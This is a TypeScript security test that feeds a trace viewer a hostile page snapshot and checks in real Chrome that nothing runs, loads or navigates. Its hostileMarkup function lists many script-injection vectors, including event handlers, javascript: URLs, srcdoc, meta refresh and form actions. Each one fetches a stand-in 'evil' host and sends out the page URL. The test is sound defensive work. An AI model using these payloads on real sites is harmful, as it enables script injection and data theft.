/** What a hostile page can do from within its snapshots, in a real Chrome with the real viewer. The trace is worse than any recorder would write. */
import { once } from "node:events";
import { mkdtemp, rm, writeFile } from "node:fs/promises";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, expect, it } from "vitest";
import { viewerRoutes } from "../../pool/api/viewer.ts";
import { zipStream } from "../../pool/recording/zip.ts";
import { openChrome } from "../support/chrome.ts";
import { edgeOnNode, type TestEdge } from "../support/edge.ts";
import { StandInNode, StandInStore } from "../support/stand-in-node.ts";

const store = new StandInStore();
const seen: string[] = []; // what the hostile site was asked for
const server = createServer((request, response) => {
  seen.push(request.url ?? "");
  response.setHeader("Access-Control-Allow-Origin", "*");
  response.end();
});
let evil: string;
let node: StandInNode;
let edge: TestEdge;
let chrome: Awaited<ReturnType<typeof openChrome>>;
beforeAll(async () => {
  await once(server.listen(0, "127.0.0.1"), "listening");
  evil = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  node = await StandInNode.start({ store });
  const viewer = await (await viewerRoutes().request("/")).text();
  node.faults.set("viewer", (response) => void response.writeHead(200, { "content-type": "application/json" }).end(viewer));
  edge = await edgeOnNode([node]);
  chrome = await openChrome();
});
afterAll(async () => {
  for (const each of [chrome, edge, node]) await each?.[Symbol.asyncDispose]();
  server.closeAllConnections();
  server.close();
});

/** Everything that runs, loads, sends or leads away, as far as markup can. */
function hostileMarkup(site: string): unknown {
  const run = `top.pwned = true; fetch("${site}/ran?" + encodeURIComponent(top.location.href))`;
  return [
    "HTML",
    {},
    [
      "HEAD",
      {},
      ["BASE", { href: `${site}/base/` }],
      ["META", { "http-equiv": "refresh", content: `0;url=${site}/refresh` }],
      ["LINK", { rel: "stylesheet", href: `${site}/sheet.css` }],
      ["LINK", { rel: "prefetch", href: `${site}/prefetch` }],
      ["LINK", { rel: "preload", as: "script", href: `${site}/preload` }],
      ["LINK", { rel: "modulepreload", href: `${site}/module` }],
      ["STYLE", {}, `@import "${site}/import.css"; body { background: url(${site}/background) }`],
      ["SCRIPT", {}, run],
      ["SCRIPT", { src: `${site}/script.js` }],
      ["SCRIPT", { type: "module" }, run],
    ],
    [
      "BODY",
      { onload: run },
      "hostile",
      ["P", { id: "shown" }, "The page"],
      ["SCRIPT", {}, run],
      ["IMG", { src: `${site}/pixel`, onerror: run }],
      ["svg", { onload: run }, ["script", {}, run], ["image", { href: `${site}/svg` }]],
      ["IFRAME", { src: `${site}/frame` }],
      ["IFRAME", { src: `javascript:${run}` }],
      ["IFRAME", { srcdoc: `<script>${run}</script>` }],
      ["OBJECT", { data: `${site}/object`, type: "text/html" }],
      ["EMBED", { src: `${site}/embed`, type: "text/html" }],
      ["VIDEO", { src: `${site}/video`, autoplay: "", onerror: run }],
      ["INPUT", { autofocus: "", onfocus: run }],
      ["DETAILS", { open: "", ontoggle: run }, "x"],
      ["A", { id: "link", href: `javascript:${run}` }, "a link"],
      ["A", { id: "away", href: `${site}/away`, ping: `${site}/ping`, target: "_top" }, "another"],
      ["FORM", { action: `${site}/form`, target: "_top" }, ["BUTTON", { id: "send" }, "send"]],
    ],
  ];
}

async function hostileTrace(): Promise<Uint8Array> {
  const snapshot = {
    callId: "call@1",
    snapshotName: "after@call@1",
    pageId: "page@1",
    frameId: "frame@1",
    frameUrl: `${evil}/`,
    html: hostileMarkup(evil),
    viewport: { width: 800, height: 600 },
    timestamp: 20,
    wallTime: 20,
    collectionTime: 1,
    resourceOverrides: [],
    isMainFrame: true,
  };
  const lines = [
    {
      type: "context-options",
      version: 8,
      origin: "library",
      browserName: "chromium",
      platform: "linux",
      wallTime: 0,
      monotonicTime: 0,
      options: {},
      title: "hostile",
    },
    { type: "before", callId: "call@1", startTime: 10, class: "Frame", method: "click", params: {}, pageId: "page@1", title: "Be hostile" },
    { type: "after", callId: "call@1", endTime: 15, afterSnapshot: "after@call@1" },
    { type: "frame-snapshot", snapshot },
  ];
  const folder = await mkdtemp(join(tmpdir(), "us-hostile-"));
  const path = join(folder, "trace.trace");
  const text = lines.map((line) => `${JSON.stringify(line)}\n`).join("");
  await writeFile(path, text);
  const chunks = await Array.fromAsync(zipStream([{ name: "trace.trace", path, bytes: Buffer.byteLength(text), method: "deflate" }]));
  await rm(folder, { recursive: true });
  return Buffer.concat(chunks);
}

it("runs no script, asks nobody, leads nowhere, and cannot see the link", async () => {
  const run = store.addRun({
    storedTrace: await hostileTrace(),
    events: [{ type: "complete", at: new Date(0).toISOString(), status: "completed" }],
  });
  const response = await edge.get(`/runs/${run.run_id}/recording/viewer`, { redirect: "manual" });
  const [, link = "none"] = response.headers.get("location")?.split("#") ?? [];
  const page = await chrome.browser.newPage();
  await page.goto(new URL(response.headers.get("location") ?? "", edge.url).href);
  const element = await page.waitForSelector("iframe[src]");
  const viewer = await element?.contentFrame();
  await (await viewer?.waitForSelector("[role=treeitem]"))?.click();
  await (await viewer?.waitForSelector("[role=tab]::-p-text(After)"))?.click();
  const shown = await page.waitForFrame(async (frame) => frame.url().includes("/snapshot/") && (await frame.$("#shown")) !== null);

  const about = await shown.evaluate(() => ({ referrer: document.referrer, address: location.href, cookies: document.cookie }));
  expect(about).toEqual({ referrer: "", address: expect.stringContaining("trace=blob"), cookies: "" });
  for (const id of ["#link", "#send", "#away"]) {
    await shown.$eval(id, (node) => (node as HTMLElement).click());
    await shown.$(id).then((node) => node?.click().catch(() => {})); // what is covered cannot be clicked either
  }
  const addresses = page
    .frames()
    .slice(1)
    .map((frame) => frame.url());
  expect(addresses.join(" ")).not.toContain(link.split(".")[1]);
  expect(await page.evaluate("top.pwned")).toBeUndefined();
  expect(page.url()).toContain("/trace-viewer/run#");
  await fetch(`${evil}/can-be-reached`);
  expect(seen).toEqual(["/can-be-reached"]);
});
